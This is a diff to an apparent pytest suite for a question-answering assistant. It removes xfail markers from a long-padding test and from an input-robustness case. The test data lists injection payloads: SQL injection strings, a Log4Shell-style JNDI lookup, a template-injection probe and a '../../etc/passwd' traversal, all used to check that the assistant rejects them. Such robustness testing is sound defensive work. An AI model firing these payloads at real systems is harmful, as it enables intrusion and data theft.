@@ -50,11 +50,6 @@ def test_very_long_english_question_notice_is_english(assistant):
     assert answer.items[0] == 7
 
 
-@pytest.mark.xfail(
-    reason="engine bug: 2000 filler characters (the question itself lies beyond the limit) are answered "
-    "as item 6 (status answered, intent content, dense 0.863) instead of clarify/out_of_scope",
-    strict=True,
-)
 def test_tail_beyond_the_limit_is_not_read(assistant):
     question = "嗯" * 2000 + "希望小屋由哪个单位负责？"
     answer = assistant.ask(question)
@@ -99,14 +94,7 @@ def test_html_script_around_a_real_question(assistant):
         "SELECT * FROM items WHERE 1=1",
         "1' OR '1'='1",
         "\" OR 1=1 --",
-        pytest.param(
-            "${jndi:ldap://x/a}",
-            marks=pytest.mark.xfail(
-                reason="engine bug: gibberish with no glossary match is answered as item 4 (status answered, intent content) "
-                "because its dense score (0.853) clears in_scope_dense 0.84",
-                strict=True,
-            ),
-        ),
+        "${jndi:ldap://x/a}",
         "{{7*7}}",
         "../../etc/passwd",
     ],
